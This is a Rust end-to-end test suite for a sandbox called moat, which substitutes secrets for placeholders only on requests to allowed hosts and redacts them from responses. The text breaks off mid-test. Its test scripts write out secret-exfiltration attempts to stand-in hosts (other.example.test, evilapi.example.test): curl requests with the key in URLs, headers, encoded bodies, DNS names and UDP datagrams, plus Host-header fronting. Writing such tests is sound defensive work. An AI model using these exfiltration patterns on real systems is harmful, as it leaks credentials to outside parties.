//! Secrets end to end: the sandbox holds only a placeholder; on intercepted TLS to an
//! allowed host moat puts the value in its place (URL, headers, Basic credentials, bodies,
//! chunked, HTTP/2) and takes it out of what comes back; a placeholder heading for a host
//! outside its secret's list never arrives, in any form, and each violation action does
//! what it says.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a panic is the failure report.

use std::process::Output;
use std::time::{Duration, Instant};

use moat_e2e::{WORLD_DNS, World, moat_bin, run_with_timeout, stderr, stdout};
use serde_json::Value;

const T: Duration = Duration::from_secs(90);
/// The real value, in moat's own environment only.
const VALUE: &str = "sk-live-REALVALUE-7f3a9c";

/// `moat run` with secret API_KEY allowed to api.example.test, the world's DNS and an
/// audit log, running `script`; the output and the audit events.
fn run(w: &World, extra: &[&str], script: &str) -> (Output, Vec<Value>, String) {
    run_valued(w, VALUE, extra, script)
}

/// [`run`] with `value` as the secret's value.
fn run_valued(
    w: &World,
    value: &str,
    extra: &[&str],
    script: &str,
) -> (Output, Vec<Value>, String) {
    let audit = w.dir.join(format!(
        "secret-audit-{}.jsonl",
        std::process::id() ^ script.len() as u32
    ));
    let _ = std::fs::remove_file(&audit);
    let mut cmd = w.in_host(moat_bin());
    cmd.env("API_KEY", value).args([
        "run",
        "--audit",
        audit.to_str().unwrap(),
        &format!("--dns={WORLD_DNS}"),
        "--secret",
        "API_KEY@api.example.test",
    ]);
    // A secret is substituted only in what moat reads: intercepted TLS, unless a test
    // opts into plain HTTP (moat refuses a secret that could never be substituted).
    if !extra.contains(&"--tls-intercept") && !extra.contains(&"--secret-plain-http") {
        cmd.arg("--tls-intercept");
    }
    cmd.args(extra).args(["--", "sh", "-c", script]);
    let out = run_with_timeout(cmd, T);
    let text = std::fs::read_to_string(&audit).unwrap_or_default();
    let events = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    (out, events, text)
}

/// The placeholder the sandbox's script printed (`placeholder=...`).
fn placeholder_in(out: &Output) -> String {
    stdout(out)
        .lines()
        .find_map(|l| l.strip_prefix("placeholder="))
        .unwrap_or_else(|| panic!("{}\n{}", stdout(out), stderr(out)))
        .to_owned()
}

/// Every violation the log records, a line folded from repeats (`count`) once per repeat.
fn violations(events: &[Value]) -> Vec<&Value> {
    events
        .iter()
        .filter(|e| e["event"] == "secret" && e["secret"] == "violation")
        .flat_map(|e| std::iter::repeat_n(e, moat_e2e::times(e) as usize))
        .collect()
}

#[test]
fn the_sandbox_sees_only_the_placeholder() {
    let w = World::new();
    let (out, _, audit) = run(
        &w,
        &[],
        "echo \"env=$API_KEY\"; cat /proc/self/environ | tr '\\0' '\\n' | grep '^API_KEY='",
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}\n{}", stderr(&out));
    let placeholder = text
        .lines()
        .find_map(|l| l.strip_prefix("env="))
        .unwrap()
        .to_owned();
    assert!(
        placeholder.starts_with("moat_") && placeholder.len() == 37,
        "{text}"
    );
    assert!(text.contains(&format!("API_KEY={placeholder}")), "{text}");
    for (what, haystack) in [
        ("stdout", &text),
        ("stderr", &stderr(&out)),
        ("audit", &audit),
    ] {
        assert!(!haystack.contains(VALUE), "the value is in {what}");
    }
}

#[test]
fn a_placeholder_heading_elsewhere_never_arrives_in_any_form() {
    let w = World::new();
    // Each form to a host the secret does not name (other.example.test), over plain HTTP;
    // then the same request without the placeholder, which arrives (the control).
    let script = r#"
p="$API_KEY"
echo "placeholder=$p"
pct=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/%\1/g')
json=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/\\u00\1/g')
try() { curl -sS -m 10 -o /dev/null "$@"; echo "exit=$?"; }
try "http://other.example.test:8080/raw?k=$p"
try "http://other.example.test:8080/pct?k=$pct"
try -u "user:$p" "http://other.example.test:8080/basic"
try -H 'Content-Type: application/json' --data "{\"key\": \"$json\"}" "http://other.example.test:8080/json"
python3 - "$p" <<'PY'
import socket, sys, time
p = sys.argv[1]
s = socket.create_connection(("other.example.test", 8080), timeout=10)
half = len(p) // 2
s.sendall(("GET /split?k=" + p[:half]).encode())
time.sleep(0.3)
s.sendall((p[half:] + " HTTP/1.1\r\nHost: other.example.test\r\n\r\n").encode())
try:
    print("split", s.recv(100)[:12])
except OSError as e:
    print("split", type(e).__name__)
PY
try "http://other.example.test:8080/control"
"#;
    let (out, events, audit) = run(&w, &[], script);
    let text = stdout(&out);
    let arrived: Vec<String> = w
        .log()
        .iter()
        .filter(|l| l["server"] == "http")
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    assert!(
        arrived.iter().any(|p| p == "/control"),
        "{arrived:?}\n{text}\n{}",
        stderr(&out)
    );
    for path in ["/raw", "/pct", "/basic", "/json"] {
        assert!(
            !arrived.iter().any(|p| p.starts_with(path)),
            "{path} arrived: {arrived:?}"
        );
    }
    // Split over two writes: the first half waited in moat for the second, so nothing of
    // the placeholder arrived (the server may log the request line cut short).
    let placeholder = placeholder_in(&out);
    assert!(
        !arrived.iter().any(|p| p.contains(&placeholder[..8])),
        "{arrived:?}"
    );
    // Each was refused with a reset the client saw, and audited without the value.
    assert_eq!(violations(&events).len(), 5, "{events:?}");
    assert!(violations(&events).iter().all(|e| e["name"] == "API_KEY"
        && e["action"] == "block"
        && e["host"] == "other.example.test"));
    assert!(!audit.contains(VALUE) && !stderr(&out).contains(VALUE));
}

#[test]
fn inside_intercepted_tls_too() {
    let w = World::new();
    let ca = w.dir.join("world-ca.pem");
    let script = "curl -sS -m 10 -o /dev/null \"https://other.example.test:8443/tls?k=$API_KEY\"; echo \"exit=$?\"; \
                  curl -sS -m 10 -o /dev/null https://other.example.test:8443/tls-control; echo \"exit=$?\"";
    let (out, events, _) = run(
        &w,
        &[
            "--tls-intercept",
            "--tls-port",
            "8443",
            "--tls-upstream-ca",
            ca.to_str().unwrap(),
        ],
        script,
    );
    let paths: Vec<String> = w
        .log()
        .iter()
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    assert!(
        paths.iter().any(|p| p == "/tls-control"),
        "{paths:?}\n{}",
        stderr(&out)
    );
    assert!(!paths.iter().any(|p| p.starts_with("/tls?")), "{paths:?}");
    assert_eq!(violations(&events).len(), 1, "{events:?}");
}

#[test]
fn block_and_log_warns_and_block_and_terminate_stops_the_sandbox() {
    let w = World::new();
    let leak = "curl -sS -m 10 -o /dev/null \"http://other.example.test:8080/leak?k=$API_KEY\"; echo \"exit=$?\"";
    let (out, events, _) = run(&w, &["--on-secret-violation", "block-and-log"], leak);
    assert!(
        stderr(&out).contains("moat: warning: blocked the placeholder of secret API_KEY"),
        "{}",
        stderr(&out)
    );
    assert!(
        out.status.success(),
        "the command went on: {}",
        stdout(&out)
    );
    assert_eq!(violations(&events)[0]["action"], "block_and_log");

    let start = Instant::now();
    let script = format!("{leak}; sleep 30; echo survived");
    let (out, events, _) = run(
        &w,
        &["--on-secret-violation", "block-and-terminate"],
        &script,
    );
    assert_eq!(out.status.code(), Some(123), "{}", stderr(&out));
    assert!(!stdout(&out).contains("survived"));
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
    assert!(
        stderr(&out).contains("stopping the sandbox (block-and-terminate)"),
        "{}",
        stderr(&out)
    );
    assert_eq!(violations(&events)[0]["action"], "block_and_terminate");
    assert!(!reached(&w, "/leak"));
}

#[test]
fn nor_in_a_datagram_or_a_dns_name() {
    let w = World::new();
    let script = r#"
python3 - "$API_KEY" <<'PY'
import socket, sys
p = sys.argv[1]
for payload in (b"clean datagram", ("token=" + p).encode()):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    u.connect(("203.0.113.10", 7777))
    u.send(payload)
    try:
        print("udp", payload[:5], "echoed", len(u.recv(200)))
    except OSError:
        print("udp", payload[:5], "silent")
PY
getent hosts "$(printf '%s' "$API_KEY" | tr a-z A-Z).other.example.test" || echo "lookup refused"
getent hosts api.example.test >/dev/null && echo "lookup fine"
"#;
    let (out, events, audit) = run(&w, &[], script);
    let text = stdout(&out);
    assert!(
        text.contains("udp b'clean' echoed"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(text.contains("udp b'token' silent"), "{text}");
    assert!(
        text.contains("lookup refused") && text.contains("lookup fine"),
        "{text}"
    );
    let v = violations(&events);
    assert!(v.iter().any(|e| e["proto"] == "udp"), "{v:?}");
    assert!(v.iter().any(|e| e["proto"] == "dns"), "{v:?}");
    // Neither reached the world.
    assert!(
        !w.log()
            .iter()
            .any(|l| l.to_string().to_ascii_lowercase().contains("moat_")),
        "{:?}",
        w.log()
    );
    assert!(!audit.contains(VALUE));
}

#[test]
fn a_piece_of_a_placeholder_waits_then_goes_when_the_sandbox_finishes() {
    let w = World::new();
    // 20 characters of the placeholder, then the sandbox shuts its side: they cannot
    // become the placeholder any more, so they go (to the sink, which counts them).
    let script = r#"
python3 - "$API_KEY" <<'PY'
import socket, sys
p = sys.argv[1]
s = socket.create_connection(("203.0.113.10", 9000), timeout=10)
data = ("start " + p[:20]).encode()
s.sendall(data)
s.shutdown(socket.SHUT_WR)
print("answer", len(s.recv(200)) > 0, "sent", len(data))
PY
"#;
    let (out, events, _) = run(&w, &[], script);
    let text = stdout(&out);
    assert!(
        text.contains("answer True sent 26"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(
        w.log()
            .iter()
            .any(|l| l["server"] == "sink" && l["bytes"] == 26),
        "{:?}",
        w.log()
    );
    assert!(violations(&events).is_empty(), "{events:?}");
}

/// The flags that intercept the world's HTTPS echo (8443) and HTTP/2 echo (8445), trusting
/// the world's CA.
fn intercepting(w: &World) -> Vec<String> {
    let ca = w.dir.join("world-ca.pem");
    [
        "--tls-intercept",
        "--tls-port",
        "8443",
        "--tls-port",
        "8445",
        "--tls-upstream-ca",
        ca.to_str().unwrap(),
    ]
    .map(str::to_owned)
    .to_vec()
}

/// Whether a request whose path starts with `prefix` reached the world.
fn reached(w: &World, prefix: &str) -> bool {
    w.log()
        .iter()
        .any(|l| l["path"].as_str().is_some_and(|p| p.starts_with(prefix)))
}

/// The world's log entry for the request whose path starts with `path`.
fn arrived(w: &World, path: &str) -> Value {
    w.log()
        .into_iter()
        .find(|l| l["path"].as_str().is_some_and(|p| p.starts_with(path)))
        .unwrap_or_else(|| panic!("nothing arrived at {path}: {:?}", w.log()))
}

fn header<'a>(entry: &'a Value, name: &str) -> Option<&'a str> {
    entry["headers"]
        .as_array()?
        .iter()
        .find_map(|h| (h[0].as_str()?.eq_ignore_ascii_case(name)).then(|| h[1].as_str())?)
}

fn swapped(events: &[Value], what: &str) -> usize {
    events
        .iter()
        .filter(|e| e["event"] == "secret" && e["secret"] == what)
        .count()
}

#[test]
fn the_value_arrives_at_its_host_in_every_place_and_never_comes_back() {
    let w = World::new();
    let script = r#"
p="$API_KEY"
u=https://api.example.test:8443
curl -sS -m 10 -H "X-Key: $p" "$u/header"; echo
curl -sS -m 10 "$u/query?key=$p&x=1"; echo
curl -sS -m 10 -H 'Content-Type: application/json' --data "{\"key\":\"$p\"}" "$u/json"; echo
curl -sS -m 10 -H 'Transfer-Encoding: chunked' --data-binary "{\"key\":\"$p\",\"again\":\"$p\"}" "$u/chunked"; echo
curl -sS -m 10 -u "me:$p" "$u/basic"; echo
curl -sS -m 10 -D - -H "X-Key: $p" "$u/echo-header"; echo
curl -sS -m 10 "$u/chunked-answer?key=$p"; echo
echo "placeholder=$p"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, audit) = run(&w, &extra, script);
    let text = stdout(&out);
    let err = stderr(&out);
    assert!(out.status.success(), "{text}\n{err}");
    let placeholder = placeholder_in(&out);
    // What arrived carries the value where the placeholder was, and never the placeholder.
    assert_eq!(header(&arrived(&w, "/header"), "X-Key"), Some(VALUE));
    assert_eq!(
        arrived(&w, "/query")["path"],
        format!("/query?key={VALUE}&x=1")
    );
    let json = arrived(&w, "/json");
    assert_eq!(json["body"], format!("{{\"key\":\"{VALUE}\"}}"));
    assert_eq!(json["body_len"], VALUE.len() + 10);
    let chunked = arrived(&w, "/chunked");
    assert_eq!(
        chunked["body"],
        format!("{{\"key\":\"{VALUE}\",\"again\":\"{VALUE}\"}}")
    );
    let basic = arrived(&w, "/basic");
    let expected = format!("me:{VALUE}");
    let got = header(&basic, "Authorization").unwrap();
    let decoded = String::from_utf8(
        std::process::Command::new("sh")
            .args(["-c", &format!("printf %s '{}' | base64 -d", &got[6..])])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert_eq!(decoded, expected, "{got}");
    for entry in w.log() {
        assert!(
            !entry.to_string().contains(&placeholder),
            "the placeholder arrived: {entry}"
        );
    }
    // What came back (the echo of the value, in bodies, a chunked body and headers) shows
    // the placeholder to the sandbox.
    assert!(!text.contains(VALUE), "the value came back: {text}");
    assert!(
        text.to_ascii_lowercase()
            .contains(&format!("x-echo-x-key: {placeholder}")),
        "{text}"
    );
    assert!(
        text.contains(&format!("\"path\": \"/chunked-answer?key={placeholder}\"")),
        "{text}"
    );
    assert!(
        text.contains(&format!("{{\\\"key\\\":\\\"{placeholder}\\\"}}")),
        "{text}"
    );
    // Audited once per connection and kind, never with the value.
    assert_eq!(swapped(&events, "substituted"), 7, "{events:?}");
    assert!(swapped(&events, "redacted") >= 6, "{events:?}");
    assert!(violations(&events).is_empty(), "{events:?}");
    for (what, haystack) in [("audit log", &audit), ("stderr", &err), ("stdout", &text)] {
        assert!(!haystack.contains(VALUE), "the value is in moat's {what}");
    }
}

#[test]
fn over_http2_headers_and_data_carry_the_value_and_windows_stay_right() {
    let mut w = World::new();
    w.start_h2_echo();
    // A value longer than the placeholder (flow control owes the sandbox) in a short
    // exchange; then the shorter one in a 200 KiB body that fills windows many times over
    // (moat gives the difference back).
    let long_value = "sk-live-A-VALUE-LONGER-THAN-ITS-PLACEHOLDER-0123456789abcdef";
    let script = r#"
p="$API_KEY"
curl -sS -m 10 --http2 -D - -H "X-Key: $p" -H 'Content-Type: application/json' --data "{\"k\":\"$p\"}" "https://api.example.test:8445/h2-small?key=$p"; echo
echo "placeholder=$p"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, audit) = run_valued(&w, long_value, &extra, script);
    let text = stdout(&out);
    assert!(out.status.success(), "{text}\n{}", stderr(&out));
    let placeholder = placeholder_in(&out);
    let small = arrived(&w, "/h2-small");
    assert_eq!(small["server"], "h2");
    assert_eq!(header(&small, "x-key"), Some(long_value));
    assert_eq!(
        header(&small, ":path"),
        Some(format!("/h2-small?key={long_value}").as_str())
    );
    assert_eq!(small["body"], format!("{{\"k\":\"{long_value}\"}}"));
    assert!(
        text.contains(&format!("x-echo-x-key: {placeholder}")),
        "{text}"
    );
    assert!(
        !text.contains(long_value) && !audit.contains(long_value),
        "{text}"
    );
    assert!(swapped(&events, "substituted") >= 1 && swapped(&events, "redacted") >= 1);

    let script = r#"
p="$API_KEY"
python3 -c "import sys; sys.stdout.write('x' * 100 + ('[' + sys.argv[1] + ']') * 5000)" "$p" > /tmp/big.txt
curl -sS -m 20 --http2 --data-binary @/tmp/big.txt -o /tmp/answer.json "https://api.example.test:8445/h2-big"; echo "exit=$?"
echo "echoed=$(grep -o "$p" /tmp/answer.json | wc -l)"
head -c 400 /tmp/answer.json
"#;
    let (out, _, audit) = run(&w, &extra, script);
    let text = stdout(&out);
    assert!(text.contains("exit=0"), "{text}\n{}\n{audit}", stderr(&out));
    // The answer echoed the value ~150 times in its first 4 KiB: the sandbox read the
    // placeholder each time.
    let echoed: usize = text
        .lines()
        .find_map(|l| l.strip_prefix("echoed="))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(echoed > 100, "{text}");
    assert!(!text.contains(VALUE), "{text}");
    let big = arrived(&w, "/h2-big");
    let body = big["body"].as_str().unwrap();
    // The echo shows the first 64 KiB: the value throughout, no placeholder.
    assert!(
        body.starts_with(&format!("{}[{VALUE}][{VALUE}]", "x".repeat(100))),
        "{}",
        &body[..200]
    );
    assert!(!body.contains("moat_"));
}

#[test]
fn a_host_is_allowed_only_when_its_name_and_its_lookup_agree() {
    let w = World::new();
    // The name is right but moat's DNS never answered it (--resolve): the address is not
    // known to be the host's, so the placeholder is a violation and nothing arrives.
    let script = "curl -sS -m 10 -o /dev/null --resolve api.example.test:8443:203.0.113.10 \
                  \"https://api.example.test:8443/unresolved?k=$API_KEY\"; echo \"exit=$?\"; \
                  curl -sS -m 10 -o /dev/null --resolve api.example.test:8443:203.0.113.10 \
                  https://api.example.test:8443/unresolved-control; echo \"exit=$?\"";
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, _) = run(&w, &extra, script);
    assert!(
        w.log().iter().any(|l| l["path"] == "/unresolved-control"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(!reached(&w, "/unresolved?"), "{:?}", w.log());
    assert_eq!(violations(&events).len(), 1, "{events:?}");
    // Plain HTTP to the right host without allow_plain_http: a violation too.
    let (_, events, _) = run(
        &w,
        &[],
        "curl -sS -m 10 -o /dev/null \"http://api.example.test:8080/plain?k=$API_KEY\"; echo",
    );
    assert_eq!(violations(&events).len(), 1, "{events:?}");
    assert!(!reached(&w, "/plain"));
}

#[test]
fn over_intercepted_tls_every_form_to_another_host_is_stopped() {
    let mut w = World::new();
    w.start_h2_echo();
    let script = r#"
p="$API_KEY"
pct=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/%\1/g')
json=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/\\u00\1/g')
u=https://other.example.test:8443
try() { curl -sS -m 10 -o /dev/null "$@"; echo "exit=$?"; }
try -H "X-Key: $p" "$u/t-header"
try "$u/t-pct?k=$pct"
try -u "me:$p" "$u/t-basic"
try -H 'Content-Type: application/json' --data "{\"k\":\"$json\"}" "$u/t-json"
try -H 'Transfer-Encoding: chunked' --data-binary "{\"k\":\"$p\"}" "$u/t-chunked"
try --http2 -H "X-Key: $p" "https://other.example.test:8445/t-h2-header"
try --http2 --data "{\"k\":\"$p\"}" "https://other.example.test:8445/t-h2-data"
try "$u/t-control"
try --http2 "https://other.example.test:8445/t-h2-control"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, _) = run(&w, &extra, script);
    let paths: Vec<String> = w
        .log()
        .iter()
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    for control in ["/t-control", "/t-h2-control"] {
        assert!(
            paths.iter().any(|p| p == control),
            "{control}: {paths:?}\n{}\n{}",
            stdout(&out),
            stderr(&out)
        );
    }
    for path in [
        "/t-header",
        "/t-pct",
        "/t-basic",
        "/t-json",
        "/t-chunked",
        "/t-h2-header",
        "/t-h2-data",
    ] {
        assert!(
            !paths.iter().any(|p| p.starts_with(path)),
            "{path}: {paths:?}"
        );
    }
    assert_eq!(violations(&events).len(), 7, "{events:?}");
    assert!(!w.log().iter().any(|l| l.to_string().contains("moat_")));
}

#[test]
fn plain_http_carries_the_value_only_when_the_secret_allows_it() {
    let w = World::new();
    let script = r#"
p="$API_KEY"
curl -sS -m 10 -H "X-Key: $p" "http://api.example.test:8080/plain-header?key=$p"; echo
curl -sS -m 10 --data "{\"k\":\"$p\"}" http://api.example.test:8080/plain-json; echo
curl -sS -m 10 -o /dev/null "http://other.example.test:8080/plain-other?k=$p"; echo "exit=$?"
curl -sS -m 10 -o /dev/null -H "Host: other.example.test" "http://api.example.test:8080/plain-fronted?k=$p"; echo "exit=$?"
python3 - <<'PY'
import socket
s = socket.create_connection(("api.example.test", 9000), timeout=10)
s.sendall(b"not http at all\n")
s.shutdown(socket.SHUT_WR)
print("sink", len(s.recv(200)) > 0)
PY
echo "placeholder=$p"
"#;
    let (out, events, audit) = run(&w, &["--secret-plain-http", "API_KEY"], script);
    let text = stdout(&out);
    let placeholder = placeholder_in(&out);
    let header_req = arrived(&w, "/plain-header");
    assert_eq!(header_req["path"], format!("/plain-header?key={VALUE}"));
    assert_eq!(header(&header_req, "X-Key"), Some(VALUE));
    assert_eq!(
        arrived(&w, "/plain-json")["body"],
        format!("{{\"k\":\"{VALUE}\"}}")
    );
    // The echoes came back with the placeholder.
    assert!(!text.contains(VALUE), "{text}");
    assert!(
        text.contains(&format!("/plain-header?key={placeholder}")),
        "{text}"
    );
    // Another host, by address or by Host header: a violation, nothing arrives.
    let paths: Vec<String> = w
        .log()
        .iter()
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    assert!(
        !paths
            .iter()
            .any(|p| p.starts_with("/plain-other") || p.starts_with("/plain-fronted")),
        "{paths:?}"
    );
    assert_eq!(violations(&events).len(), 2, "{events:?}");
    assert!(swapped(&events, "substituted") >= 2, "{events:?}");
    // What is not HTTP, to the same host, passes as it is.
    assert!(text.contains("sink True"), "{text}");
    assert!(
        w.log()
            .iter()
            .any(|l| l["server"] == "sink" && l["bytes"] == 16)
    );
    assert!(!audit.contains(VALUE) && !stderr(&out).contains(VALUE));

    // Naming a secret that is not given is an error.
    let mut cmd = w.in_host(moat_bin());
    cmd.args(["run", "--secret-plain-http", "NOPE", "--", "true"]);
    let out = run_with_timeout(cmd, T);
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("--secret-plain-http NOPE"),
        "{}",
        stderr(&out)
    );
}

/// The value of the world's log entry's header `name` for the request to `path`, and
/// whether that request arrived at all (the positive control of the tests below).
fn arrived_with(w: &World, path: &str, name: &str) -> Option<String> {
    header(&arrived(w, path), name).map(str::to_owned)
}

#[test]
fn a_compressed_echo_never_brings_the_value_back() {
    let w = World::new();
    // curl asks for gzip and decodes what comes: compressed, the value would pass redaction
    // unseen. moat asks for identity on a connection that carries a value.
    let script = r#"
p="$API_KEY"
curl -sS -m 10 --compressed -H "X-Key: $p" https://api.example.test:8443/gzip-echo; echo
echo "placeholder=$p"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, _) = run(&w, &extra, script);
    let text = stdout(&out);
    let placeholder = placeholder_in(&out);
    // The request arrived with the value; the echo came back readable, with the
    // placeholder where the value was.
    assert_eq!(
        arrived_with(&w, "/gzip-echo", "X-Key").as_deref(),
        Some(VALUE)
    );
    assert!(!text.contains(VALUE), "the value came back: {text}");
    assert!(text.contains(&placeholder), "{text}\n{}", stderr(&out));
    assert_eq!(
        arrived_with(&w, "/gzip-echo", "Accept-Encoding").as_deref(),
        Some("identity")
    );
    assert!(swapped(&events, "redacted") >= 1, "{events:?}");
}

/// What the sandbox reads of the encoded echoes, decoded by python: every base64 and hex
/// form as the bytes it decodes to.
const DECODE_ECHOES: &str = r#"
import base64, json, sys, urllib.parse
for path in sys.argv[1:]:
    e = json.load(open(path))
    print(path, "arrived", e["arrived"])
    for s in e["b64"]:
        print(path, "b64", base64.b64decode(s)[:80])
    for s in e["b64url"]:
        print(path, "b64url", base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))[:80])
    print(path, "hex", bytes.fromhex(e["hex"]), "HEX", bytes.fromhex(e["HEX"]))
    print(path, "pct", urllib.parse.unquote_to_bytes(e["pct"]))
"#;

#[test]
fn an_echo_in_base64_or_hex_never_brings_the_value_back() {
    let mut w = World::new();
    w.start_h2_echo();
    // Base64 (standard and URL-safe, at each alignment), hex (both cases) and
    // percent-encoding, over HTTP/1.1 and over HTTP/2 in 7-byte DATA frames.
    let script = format!(
        r#"
p="$API_KEY"
curl -sS -m 10 -H "X-Key: $p" https://api.example.test:8443/encoded-echo > /tmp/h1.json
curl -sS -m 10 --http2 -H "X-Key: $p" https://api.example.test:8445/encoded-echo > /tmp/h2.json
cat /tmp/h1.json /tmp/h2.json
python3 - /tmp/h1.json /tmp/h2.json <<'PY'
{DECODE_ECHOES}PY
echo "placeholder=$p"
"#
    );
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, _) = run(&w, &extra, &script);
    let text = stdout(&out);
    let placeholder = placeholder_in(&out);
    // Both requests arrived with the value (the paths were exercised).
    let arrivals: Vec<Value> = w
        .log()
        .into_iter()
        .filter(|l| l["path"] == "/encoded-echo")
        .collect();
    assert_eq!(arrivals.len(), 2, "{arrivals:?}\n{text}\n{}", stderr(&out));
    for a in &arrivals {
        assert_eq!(header(a, "x-key"), Some(VALUE), "{a}");
    }
    // Neither as it came nor decoded does the sandbox read the value.
    assert!(!text.contains(VALUE), "the value came back: {text}");
    for (file, server) in [("/tmp/h1.json", "h1"), ("/tmp/h2.json", "h2")] {
        let line = |what: &str| {
            text.lines()
                .filter(|l| l.starts_with(&format!("{file} {what} ")))
                .map(str::to_owned)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            line("arrived"),
            [format!("{file} arrived {}", VALUE.len())],
            "{server}: {text}"
        );
        // Hex and percent-encoding are the placeholder's; base64 decodes to as many '*',
        // what was around intact.
        assert_eq!(
            line("hex"),
            [format!("{file} hex b'{placeholder}' HEX b'{placeholder}'")],
            "{server}: {text}"
        );
        assert_eq!(
            line("pct"),
            [format!("{file} pct b'{placeholder}'")],
            "{server}: {text}"
        );
        let stars = "*".repeat(VALUE.len());
        for what in ["b64", "b64url"] {
            let got = line(what);
            let want: Vec<String> = ["", "a", "ab"]
                .iter()
                .map(|pad| format!("{file} {what} b'{pad}{stars}'"))
                .collect();
            assert_eq!(got, want, "{server}: {text}");
        }
    }
    assert!(swapped(&events, "redacted") >= 2, "{events:?}");
}

#[test]
fn an_echo_in_two_ranges_never_brings_the_value_back() {
    let w = World::new();
    // Each range alone holds part of the value, too short to match: moat takes Range off
    // a request on a connection that carries a value, so each answer is whole.
    let script = r#"
p="$API_KEY"
u=https://api.example.test:8443/range-echo
curl -sS -m 10 -H "X-Key: $p" -r 0-12 "$u" > /tmp/r1
curl -sS -m 10 -H "X-Key: $p" -r 13-200 "$u" > /tmp/r2
echo "joined=$(cat /tmp/r1 /tmp/r2 | tr -d '\n')"
echo "placeholder=$p"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, _, _) = run(&w, &extra, script);
    let text = stdout(&out);
    let placeholder = placeholder_in(&out);
    let arrivals: Vec<Value> = w
        .log()
        .into_iter()
        .filter(|l| l["path"] == "/range-echo")
        .collect();
    assert_eq!(arrivals.len(), 2, "{arrivals:?}\n{text}\n{}", stderr(&out));
    for a in &arrivals {
        assert_eq!(header(a, "X-Key"), Some(VALUE), "{a}");
    }
    assert!(!text.contains(VALUE), "the value came back: {text}");
    for a in &arrivals {
        assert_eq!(header(a, "Range"), None, "{a}");
    }
    assert!(
        text.contains(&format!("joined=key={placeholder}key={placeholder}")),
        "{text}"
    );
}

#[test]
fn the_value_goes_only_to_the_server_name_the_secret_names() {
    let mut w = World::new();
    w.start_h2_echo();
    // api.example.test and www.example.test share an address, and this sandbox looked up
    // both: the address alone does not make www a host of the secret (its server name
    // must be one). evilapi.example.test ends with api.example.test's name but is another
    // host, as a server name and as a Host under api's server name.
    let script = r#"
p="$API_KEY"
try() { curl -sS -m 10 -o /dev/null -w "%{http_code}\n" "$@"; echo "exit=$?"; }
try "https://api.example.test:8443/right?k=$p"
try "https://www.example.test:8443/same-address?k=$p"
try "https://evilapi.example.test:8443/suffix-name?k=$p"
try -H "Host: evilapi.example.test" "https://api.example.test:8443/suffix-host?k=$p"
try "https://www.example.test:8443/www-control"
try --http2 "https://api.example.test:8445/right-h2?k=$p"
# Over HTTP/2 the fronted request follows a good one on the same connection: the first
# arrives, the second is answered 403 and never goes.
h2="https://api.example.test:8445"
curl -sS -m 10 --http2 -o /dev/null -w "first=%{http_code}\n" "$h2/before-h2?k=$p" \
  --next -sS -m 10 --http2 -o /dev/null -H "Host: evilapi.example.test" \
  -w "second=%{http_code} connects=%{num_connects}\n" "$h2/suffix-host-h2?k=$p"
"#;
    let extra = intercepting(&w);
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let (out, events, _) = run(&w, &extra, script);
    let text = stdout(&out);
    // Controls: the secret's own host got the value; www is reachable through moat.
    assert_eq!(
        arrived(&w, "/right")["path"],
        format!("/right?k={VALUE}"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(reached(&w, "/www-control"), "{:?}", w.log());
    for path in ["/right-h2", "/before-h2"] {
        let got = arrived(&w, path);
        assert_eq!(got["server"], "h2", "{got}");
        assert_eq!(got["path"], format!("{path}?k={VALUE}"), "{got}");
    }
    // The refused request went over the connection the first one opened.
    assert!(text.contains("first=200"), "{text}");
    assert!(text.contains("second=403 connects=0"), "{text}");
    for path in ["/same-address", "/suffix-name", "/suffix-host"] {
        assert!(!reached(&w, path), "{path} arrived: {:?}", w.log());
    }
    let allowed = ["/right", "/right-h2", "/before-h2"].map(|p| format!("{p}?k={VALUE}"));
    assert!(
        !w.log().iter().any(|l| l.to_string().contains(VALUE)
            && !allowed.iter().any(|p| l["path"].as_str() == Some(p))),
        "{:?}",
        w.log()
    );
    // Two violations (www, evilapi) and two requests refused as fronting.
    let hosts: Vec<&str> = violations(&events)
        .iter()
        .filter_map(|e| e["host"].as_str())
        .collect();
    assert_eq!(
        hosts,
        ["www.example.test", "evilapi.example.test"],
        "{events:?}"
    );
    // Refused as fronting: once over HTTP/1.1, once over HTTP/2.
    let fronting = events
        .iter()
        .filter(|e| {
            e["event"] == "tls"
                && e["decision"] == "deny"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("evilapi.example.test"))
        })
        .count();
